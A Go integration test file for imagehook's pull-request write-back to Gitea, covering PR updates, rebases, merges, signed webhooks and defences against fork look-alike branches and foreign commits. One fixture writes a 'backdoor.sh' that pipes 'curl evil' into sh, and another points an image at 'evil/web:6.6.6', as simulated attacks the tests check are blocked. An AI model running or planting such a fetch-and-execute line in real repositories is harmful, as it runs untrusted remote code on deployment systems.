package service

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/imagehook/imagehook/config"
	"github.com/imagehook/imagehook/examples"
	"github.com/imagehook/imagehook/internal/giteatest"
	"github.com/imagehook/imagehook/internal/gitserver"
	"github.com/imagehook/imagehook/internal/smtptest"
)

const forgeSecret = "forge-webhook-s3cret-do-not-log"

// giteaPR is what the tests read of Gitea's pull requests.
type giteaPR struct {
	Number    int64  `json:"number"`
	Title     string `json:"title"`
	Body      string `json:"body"`
	State     string `json:"state"`
	Merged    bool   `json:"merged"`
	Mergeable bool   `json:"mergeable"`
	MergeSHA  string `json:"merge_commit_sha"`
	Head      struct {
		Ref string `json:"ref"`
		Sha string `json:"sha"`
	} `json:"head"`
	Labels []struct {
		Name string `json:"name"`
	} `json:"labels"`
}

// TestPullRequestsOnGitea runs pull-request write-back against a real Gitea: a push opens a pull
// request (title, body, label); a second push updates the same one; a base branch that moved is not
// a conflict; merging it completes every event it carried from the merge commit and mails the
// report; a pull request closed unmerged cancels its event; the forge's webhook is checked.
func TestPullRequestsOnGitea(t *testing.T) {
	g := giteatest.Start(t)
	g.NewRepo(t, "apps", examples.Manifests())
	_, cert := smtptest.TestCA(t)
	smtpSrv := smtptest.Start(t, smtptest.Options{}, cert)

	dir := t.TempDir()
	yml := fmt.Sprintf(`listen: "127.0.0.1:0"
dataDir: %[1]s
repos:
  - name: apps
    url: %[2]s/%[3]s/apps.git
    auth: {username: %[3]s, password: %[4]s}
    author: {name: imagehook-test, email: imagehook@example.com}
    writeBack:
      mode: pullRequest
      provider: gitea
      api: %[2]s/api/v1
      token: %[5]s
      labels: [imagehook, deploy]
      webhookSecret: %[6]s
      pollInterval: 1h
mail: {host: 127.0.0.1, port: %[7]d, tls: none, username: %[8]s, password: %[9]s, from: %[8]s, to: [ops@example.com], language: en}
hooks:
  - id: custom
    token: %[10]s
    source: custom
    targets: [{repo: apps, path: apps/website, workload: deployment/website, namespace: web, container: website}]
`, filepath.Join(dir, "data"), g.URL, giteatest.User, giteatest.Password, g.Token, forgeSecret,
		smtpSrv.Port, smtptest.User, smtptest.Password, hookToken)
	cfg, err := config.Parse([]byte(yml), func(string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	h := &harness{t: t, cfg: cfg, logs: &syncBuffer{}}
	h.start()
	t.Cleanup(func() {
		h.stop()
		for _, secret := range []string{giteatest.Password, g.Token, forgeSecret, hookToken, smtptest.Password} {
			if strings.Contains(h.logs.String(), secret) {
				t.Errorf("a secret appears in the log:\n%s", h.logs.String())
			}
		}
	})
	// Gitea tells imagehook when a pull request changes; polling is an hour away, so only the
	// webhook can complete the events below.
	if code := g.API(t, http.MethodPost, "/repos/"+giteatest.User+"/apps/hooks", map[string]any{
		"type": "gitea", "active": true, "events": []string{"pull_request"},
		"config": map[string]string{"url": "http://" + h.addr + "/forges/apps", "content_type": "json", "secret": forgeSecret},
	}, nil); code != http.StatusCreated {
		t.Fatalf("create webhook: HTTP %d", code)
	}
	repoAPI := "/repos/" + giteatest.User + "/apps"
	openPRs := func() []giteaPR {
		var prs []giteaPR
		g.API(t, http.MethodGet, repoAPI+"/pulls?state=open", nil, &prs)
		return prs
	}
	push := func(tag string) map[string]any {
		t.Helper()
		body := fmt.Sprintf(`{"push_data":{"tag":%q,"pusher":"ci-bot"},"repository":{"repo_url":"registry.cn-hangzhou.aliyuncs.com","namespace":"imagehook-demo","name":"website"}}`, tag)
		code, ev := h.post("/hooks/custom?wait=30s&token="+hookToken, []byte(body))
		// ?wait= answers once the change is in its pull request: a merge may take hours.
		if code != http.StatusAccepted || ev["status"] != "awaiting merge" {
			t.Fatalf("push %s: %d %v", tag, code, ev)
		}
		return ev
	}
	event := func(id string) map[string]any {
		req, _ := http.NewRequest(http.MethodGet, "http://"+h.addr+"/events/"+id, nil)
		_, ev := h.do(req)
		return ev
	}
	waitStatus := func(id, want string) map[string]any {
		t.Helper()
		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
			ev := event(id)
			if ev["status"] == want {
				return ev
			}
			if time.Now().After(deadline) {
				t.Fatalf("event %s: status %v, want %s\n%v\nlog:\n%s", id, ev["status"], want, ev, h.logs.String())
			}
		}
	}

	// 1. A push opens a pull request and waits for its merge.
	first := push("2.0.0")
	firstID := fmt.Sprint(first["id"])
	first = waitStatus(firstID, "awaiting merge")
	pr := step(first, "git")["pullRequest"].(map[string]any)
	prs := openPRs()
	if len(prs) != 1 || float64(prs[0].Number) != pr["number"] || prs[0].Head.Ref != "imagehook/deployment/website" {
		t.Fatalf("open pull requests %+v, event's %v", prs, pr)
	}
	if !strings.Contains(prs[0].Title, "deployment/website website to registry.cn-hangzhou.aliyuncs.com/imagehook-demo/website:2.0.0") ||
		!strings.Contains(prs[0].Body, firstID) || !strings.Contains(prs[0].Body, "`ci-bot`") || len(prs[0].Labels) != 2 {
		t.Errorf("pull request: title %q labels %v body:\n%s", prs[0].Title, prs[0].Labels, prs[0].Body)
	}
	number := prs[0].Number

	// 2. A second push for the target updates the same pull request: one branch, one pull request.
	second := push("2.1.0")
	secondID := fmt.Sprint(second["id"])
	waitStatus(secondID, "awaiting merge")
	if prs := openPRs(); len(prs) != 1 || prs[0].Number != number || !strings.Contains(prs[0].Title, "website:2.1.0") || !strings.Contains(prs[0].Body, firstID) {
		t.Fatalf("after the second push: %+v", prs)
	}

	// 3. The base branch moves (someone commits to main): the branch is rebuilt on the new base.
	var file struct {
		Commit struct {
			SHA string `json:"sha"`
		} `json:"commit"`
	}
	if code := g.API(t, http.MethodPost, repoAPI+"/contents/NOTES.md", map[string]any{
		"content": "VW5yZWxhdGVkIGNoYW5nZQo=", "message": "an unrelated change", "branch": "main",
	}, &file); code != http.StatusCreated {
		t.Fatalf("commit to main: HTTP %d", code)
	}
	third := push("2.2.0")
	thirdID := fmt.Sprint(third["id"])
	waitStatus(thirdID, "awaiting merge")
	clone := t.TempDir()
	gitserver.Git(t, clone, "clone", "-q", g.CloneURL("apps"), ".")
	gitserver.Git(t, clone, "fetch", "-q", "origin", "imagehook/deployment/website")
	if parent := gitserver.Git(t, clone, "rev-parse", "FETCH_HEAD^"); parent != file.Commit.SHA {
		t.Errorf("the branch is built on %s, not on the moved base %s", parent, file.Commit.SHA)
	}
	if n := gitserver.Git(t, clone, "rev-list", "--count", "origin/main..FETCH_HEAD"); n != "1" {
		t.Errorf("the branch holds %s commits over the base, want 1", n)
	}
	var cur giteaPR
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		g.API(t, http.MethodGet, fmt.Sprintf("%s/pulls/%d", repoAPI, number), nil, &cur)
		if cur.Mergeable || time.Now().After(deadline) {
			break
		}
	}
	if !cur.Mergeable {
		t.Fatalf("the pull request is not mergeable after the base moved: %+v", cur)
	}

	// A forged webhook is refused; a genuine one only makes imagehook read the pull request.
	body := []byte(`{"action":"closed","pull_request":{"number":1,"merged":true}}`)
	for _, hdr := range [][]string{nil, {"X-Gitea-Signature", strings.Repeat("0", 64)}, {"X-Gitea-Signature", sign("wrong-secret", body)}} {
		if code, resp := h.post("/forges/apps", body, hdr...); code != http.StatusUnauthorized {
			t.Errorf("forge webhook with %v: %d %v", hdr, code, resp)
		}
	}
	if code, _ := h.post("/forges/apps", body, "X-Gitea-Signature", sign(forgeSecret, body)); code != http.StatusAccepted {
		t.Errorf("genuine forge webhook: %d", code)
	}
	if st := event(firstID)["status"]; st != "awaiting merge" {
		t.Fatalf("a webhook's words completed an event: %v", st)
	}

	// 4. Merging completes every event the pull request carried, from the merge commit; mail goes.
	// Gitea answers 405 while it is still checking mergeability after a push: try again.
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		code := g.API(t, http.MethodPost, fmt.Sprintf("%s/pulls/%d/merge", repoAPI, number), map[string]any{"Do": "merge"}, nil)
		if code == http.StatusOK {
			break
		}
		if code != http.StatusMethodNotAllowed || time.Now().After(deadline) {
			t.Fatalf("merge: HTTP %d", code)
		}
	}
	g.API(t, http.MethodGet, fmt.Sprintf("%s/pulls/%d", repoAPI, number), nil, &cur)
	for _, id := range []string{firstID, secondID, thirdID} {
		ev := waitStatus(id, "succeeded")
		if c := step(ev, "git")["commit"]; c != cur.MergeSHA {
			t.Errorf("event %s: commit %v, want the merge commit %s", id, c, cur.MergeSHA)
		}
	}
	gitserver.Git(t, clone, "pull", "-q", "origin", "main")
	if data, _ := os.ReadFile(filepath.Join(clone, "apps/website/deployment.yaml")); !strings.Contains(string(data), "website:2.2.0") {
		t.Errorf("main after the merge:\n%s", data)
	}
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		if msgs, _ := smtpSrv.Messages(); len(msgs) > 0 {
			if !strings.Contains(string(msgs[len(msgs)-1]), "2.2.0") {
				t.Errorf("mail:\n%s", msgs[len(msgs)-1])
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no mail after the merge")
		}
	}

	// 5. A pull request closed without merging cancels its event.
	fourth := push("3.0.0")
	fourthID := fmt.Sprint(fourth["id"])
	fourth = waitStatus(fourthID, "awaiting merge")
	n2 := int64(step(fourth, "git")["pullRequest"].(map[string]any)["number"].(float64))
	if n2 == number {
		t.Fatalf("a merged pull request was reused")
	}
	if code := g.API(t, http.MethodPatch, fmt.Sprintf("%s/pulls/%d", repoAPI, n2), map[string]any{"state": "closed"}, nil); code != http.StatusCreated && code != http.StatusOK {
		t.Fatalf("close: HTTP %d", code)
	}
	waitStatus(fourthID, "cancelled")
	if strings.Contains(gitserver.Git(t, clone, "ls-remote", "origin", "main"), "3.0.0") {
		t.Error("a closed pull request reached main")
	}
}

// sign is a Gitea webhook signature: the hex HMAC-SHA256 of the body.
func sign(secret string, body []byte) string {
	m := hmac.New(sha256.New, []byte(secret))
	m.Write(body)
	return hex.EncodeToString(m.Sum(nil))
}

// prRig is imagehook writing one Gitea repository through pull requests (polled every second: no
// forge webhook), and what the tests do to it.
type prRig struct {
	t    *testing.T
	g    *giteatest.Gitea
	h    *harness
	repo string
	api  string
}

func startPRRig(t *testing.T, g *giteatest.Gitea, repo, merge string) *prRig {
	t.Helper()
	g.NewRepo(t, repo, examples.Manifests())
	dir := t.TempDir()
	yml := fmt.Sprintf(`listen: "127.0.0.1:0"
dataDir: %[1]s
repos:
  - name: apps
    url: %[2]s/%[3]s/%[4]s.git
    auth: {username: %[3]s, password: %[5]s}
    author: {name: imagehook-test, email: imagehook@example.com}
    writeBack: {mode: pullRequest, provider: gitea, api: %[2]s/api/v1, token: %[6]s, merge: %[7]s, pollInterval: 1s}
hooks:
  - id: custom
    token: %[8]s
    source: custom
    targets: [{repo: apps, path: apps/website, workload: deployment/website, namespace: web, container: website}]
`, filepath.Join(dir, "data"), g.URL, giteatest.User, repo, giteatest.Password, g.Token, merge, hookToken)
	cfg, err := config.Parse([]byte(yml), func(string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	h := &harness{t: t, cfg: cfg, logs: &syncBuffer{}}
	h.start()
	t.Cleanup(h.stop)
	return &prRig{t: t, g: g, h: h, repo: repo, api: "/repos/" + giteatest.User + "/" + repo}
}

// push sends a registry push of website:tag and returns the event's id once it has an outcome
// (awaiting merge, or failed).
func (r *prRig) push(tag string) string {
	r.t.Helper()
	body := fmt.Sprintf(`{"push_data":{"tag":%q,"pusher":"ci-bot"},"repository":{"repo_url":"registry.cn-hangzhou.aliyuncs.com","namespace":"imagehook-demo","name":"website"}}`, tag)
	code, ev := r.h.post("/hooks/custom?wait=30s&token="+hookToken, []byte(body))
	if code != http.StatusAccepted && code != http.StatusOK { // 200: done (failed) within the wait
		r.t.Fatalf("push %s: %d %v", tag, code, ev)
	}
	return fmt.Sprint(ev["id"])
}

func (r *prRig) event(id string) map[string]any {
	req, _ := http.NewRequest(http.MethodGet, "http://"+r.h.addr+"/events/"+id, nil)
	_, ev := r.h.do(req)
	return ev
}

// until polls the event until ok says so.
func (r *prRig) until(id, what string, ok func(ev, git map[string]any) bool) map[string]any {
	r.t.Helper()
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		ev := r.event(id)
		if ok(ev, step(ev, "git")) {
			return ev
		}
		if time.Now().After(deadline) {
			r.t.Fatalf("event %s: not %s: %v\nlog:\n%s", id, what, ev, r.h.logs.String())
		}
	}
}

func (r *prRig) status(id, want string) map[string]any {
	r.t.Helper()
	return r.until(id, want, func(ev, _ map[string]any) bool { return ev["status"] == want })
}

func (r *prRig) pr(number int64) giteaPR {
	r.t.Helper()
	var pr giteaPR
	if code := r.g.API(r.t, http.MethodGet, fmt.Sprintf("%s/pulls/%d", r.api, number), nil, &pr); code != http.StatusOK {
		r.t.Fatalf("pull request %d: HTTP %d", number, code)
	}
	return pr
}

func prNumber(ev map[string]any) int64 {
	git := step(ev, "git")
	pr, _ := git["pullRequest"].(map[string]any)
	n, _ := pr["number"].(float64)
	return int64(n)
}

// merge merges a pull request as a person would (Gitea answers 405 while it still checks
// mergeability after a push).
func (r *prRig) merge(number int64) giteaPR {
	r.t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		code := r.g.API(r.t, http.MethodPost, fmt.Sprintf("%s/pulls/%d/merge", r.api, number), map[string]any{"Do": "merge"}, nil)
		if code == http.StatusOK {
			return r.pr(number)
		}
		if code != http.StatusMethodNotAllowed || time.Now().After(deadline) {
			r.t.Fatalf("merge %d: HTTP %d", number, code)
		}
	}
}

// commitTo pushes, as a reviewer (another git identity), a commit to branch of owner/repo that
// edit makes in a clone; it returns the commit.
func (r *prRig) commitTo(cloneURL, branch string, edit func(dir string)) string {
	r.t.Helper()
	work := r.t.TempDir()
	gitserver.Git(r.t, work, "clone", "-q", "-b", branch, cloneURL, ".")
	edit(work)
	gitserver.Git(r.t, work, "add", "-A")
	cmd := gitserver.Command(work, "commit", "-q", "-m", "a reviewer's commit")
	cmd.Env = append(cmd.Env, "GIT_AUTHOR_NAME=Rita Reviewer", "GIT_AUTHOR_EMAIL=rita@example.com",
		"GIT_COMMITTER_NAME=Rita Reviewer", "GIT_COMMITTER_EMAIL=rita@example.com")
	if out, err := cmd.CombinedOutput(); err != nil {
		r.t.Fatalf("git commit: %v\n%s", err, out)
	}
	gitserver.Git(r.t, work, "push", "-q", "origin", branch)
	return gitserver.Git(r.t, work, "rev-parse", "HEAD")
}

func setImage(t *testing.T, dir, image string) {
	t.Helper()
	file := filepath.Join(dir, "apps/website/deployment.yaml")
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(data), "\n")
	for i, l := range lines {
		if strings.Contains(l, "# set by imagehook") {
			lines[i] = "          image: " + image + "  # set by imagehook"
		}
	}
	if err := os.WriteFile(file, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
		t.Fatal(err)
	}
}

// mainHolds reads a file of the repository's main branch ("" when it has none).
func (r *prRig) mainHolds(file string) string {
	r.t.Helper()
	var got struct {
		Content string `json:"content"`
	}
	if r.g.API(r.t, http.MethodGet, r.api+"/contents/"+file+"?ref=main", nil, &got) != http.StatusOK {
		return ""
	}
	data, _ := base64.StdEncoding.DecodeString(got.Content)
	return string(data)
}

// TestForkLookAlikeOnGitea: someone forks the repository, pushes a branch named like imagehook's
// (imagehook/deployment/website) with a backdoor, and opens a pull request from the fork before
// imagehook's first push. imagehook never touches the fork's pull request — it opens its own from
// its own branch in the repository, and the event names the look-alike with a typed reason — and
// with merge: auto only imagehook's own pull request is merged: the backdoor never reaches main.
func TestForkLookAlikeOnGitea(t *testing.T) {
	g := giteatest.Start(t)
	eveToken := g.NewUser(t, "eve")
	for _, merge := range []string{"none", "auto"} {
		t.Run(merge, func(t *testing.T) {
			r := startPRRig(t, g, "apps-"+merge, merge)
			// Eve forks, adds a backdoor on imagehook's branch name, and opens her pull request.
			if code := g.APIAs(t, eveToken, http.MethodPost, r.api+"/forks", map[string]any{}, nil); code != http.StatusAccepted {
				t.Fatalf("fork: HTTP %d", code)
			}
			branch := "imagehook/deployment/website"
			work := t.TempDir()
			gitserver.Git(t, work, "clone", "-q", g.CloneURLAs("eve", "eve", r.repo), ".")
			gitserver.Git(t, work, "checkout", "-q", "-b", branch)
			setImage(t, work, "evil/web:6.6.6")
			if err := os.WriteFile(filepath.Join(work, "backdoor.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			gitserver.Git(t, work, "add", "-A")
			gitserver.Git(t, work, "commit", "-q", "-m", "imagehook: deployment/website website to 9.9.9")
			gitserver.Git(t, work, "push", "-q", "origin", branch)
			var fork giteaPR
			for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(200 * time.Millisecond) {
				code := g.APIAs(t, eveToken, http.MethodPost, r.api+"/pulls", map[string]any{
					"head": "eve:" + branch, "base": "main", "title": "imagehook: deployment/website website to 9.9.9"}, &fork)
				if code == http.StatusCreated {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("eve's pull request: HTTP %d", code)
				}
			}

			id := r.push("2.0.0")
			want := "awaiting merge"
			if merge == "auto" {
				want = "succeeded"
			}
			ev := r.status(id, want)
			git := step(ev, "git")
			own := prNumber(ev)
			if own == 0 || own == fork.Number || git["reason"] != "foreign pull request" ||
				!strings.Contains(fmt.Sprint(git["detail"]), fmt.Sprintf("#%d from eve/%s", fork.Number, r.repo)) {
				t.Errorf("event's git step %v (eve's pull request is #%d)", git, fork.Number)
			}
			mine := r.pr(own)
			if mine.Head.Ref != branch || mine.Head.Sha == fork.Head.Sha {
				t.Errorf("imagehook's pull request %+v", mine)
			}
			theirs := r.pr(fork.Number)
			if theirs.State != "open" || theirs.Merged || theirs.Title != fork.Title || theirs.Head.Sha != fork.Head.Sha {
				t.Errorf("eve's pull request was touched: %+v", theirs)
			}
			if r.mainHolds("backdoor.sh") != "" {
				t.Fatal("the fork's backdoor reached main")
			}
			if merge == "auto" {
				if !mine.Merged || !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "website:2.0.0") {
					t.Errorf("imagehook's own pull request was not auto-merged: %+v", mine)
				}
			} else if mine.Merged {
				t.Error("merge: none, yet merged")
			}
		})
	}
}

// TestPullRequestTrustOnGitea, against a real Gitea: a reviewer's commit on imagehook's branch is
// reported (typed reason, a comment on the pull request) and never force-pushed away — the next
// push fails with that reason; a merge whose branch someone pointed at another image fails its
// event with what main runs; a pull request closed, reopened and merged completes its event.
func TestPullRequestTrustOnGitea(t *testing.T) {
	g := giteatest.Start(t)
	r := startPRRig(t, g, "apps", "none")
	branch := "imagehook/deployment/website"

	// 1. A reviewer adds a commit to imagehook's branch.
	first := r.push("2.0.0")
	number := prNumber(r.status(first, "awaiting merge"))
	theirs := r.commitTo(g.CloneURL("apps"), branch, func(dir string) {
		if err := os.WriteFile(filepath.Join(dir, "NOTES.md"), []byte("reviewed\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	})
	r.until(first, "told of the reviewer's commit", func(ev, git map[string]any) bool {
		return ev["status"] == "awaiting merge" && git["reason"] == "foreign commit" && strings.Contains(fmt.Sprint(git["detail"]), theirs[:12])
	})
	second := r.push("2.1.0")
	ev := r.status(second, "failed")
	if git := step(ev, "git"); git["reason"] != "foreign commit" || !strings.Contains(fmt.Sprint(git["error"]), "will not force-push") {
		t.Errorf("the next push: %v", git)
	}
	if pr := r.pr(number); pr.Head.Sha != theirs {
		t.Fatalf("the reviewer's commit was replaced: head %s, want %s", pr.Head.Sha, theirs)
	}
	var comments []struct {
		Body string `json:"body"`
	}
	g.API(t, http.MethodGet, fmt.Sprintf("%s/issues/%d/comments", r.api, number), nil, &comments)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, theirs[:12]) {
		t.Errorf("comments on the pull request: %+v", comments)
	}
	// Merged with the reviewer's harmless commit: the image is the proposed one, the event says
	// whose commit the branch ended in.
	merged := r.merge(number)
	ev = r.status(first, "succeeded")
	if git := step(ev, "git"); git["commit"] != merged.MergeSHA || git["reason"] != "foreign commit" {
		t.Errorf("merged: %v", git)
	}

	// 2. Someone points imagehook's branch at another image before the merge.
	third := r.push("3.0.0")
	number = prNumber(r.status(third, "awaiting merge"))
	r.commitTo(g.CloneURL("apps"), branch, func(dir string) { setImage(t, dir, "evil/web:6.6.6") })
	r.merge(number)
	ev = r.status(third, "failed")
	if git := step(ev, "git"); git["reason"] != "merged other content" || git["error"] != "merged with other content: main runs evil/web:6.6.6" {
		t.Errorf("merged with other content: %v", git)
	}
	if !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "evil/web:6.6.6") {
		t.Fatal("the test's merge did not land")
	}

	// 3. Closed, reopened, merged (once someone has put main right again).
	r.commitTo(g.CloneURL("apps"), "main", func(dir string) {
		setImage(t, dir, "registry.cn-hangzhou.aliyuncs.com/imagehook-demo/website:3.0.0")
	})
	fourth := r.push("4.0.0")
	number = prNumber(r.status(fourth, "awaiting merge"))
	if code := g.API(t, http.MethodPatch, fmt.Sprintf("%s/pulls/%d", r.api, number), map[string]any{"state": "closed"}, nil); code != http.StatusCreated && code != http.StatusOK {
		t.Fatalf("close: HTTP %d", code)
	}
	r.status(fourth, "cancelled")
	if code := g.API(t, http.MethodPatch, fmt.Sprintf("%s/pulls/%d", r.api, number), map[string]any{"state": "open"}, nil); code != http.StatusCreated && code != http.StatusOK {
		t.Fatalf("reopen: HTTP %d", code)
	}
	r.until(fourth, "awaiting merge again", func(ev, git map[string]any) bool {
		return ev["status"] == "awaiting merge" && git["reason"] == "reopened"
	})
	merged = r.merge(number)
	ev = r.status(fourth, "succeeded")
	if git := step(ev, "git"); git["commit"] != merged.MergeSHA {
		t.Errorf("reopened and merged: %v", git)
	}
	if !strings.Contains(r.mainHolds("apps/website/deployment.yaml"), "website:4.0.0") {
		t.Error("main does not run the merged image")
	}
}
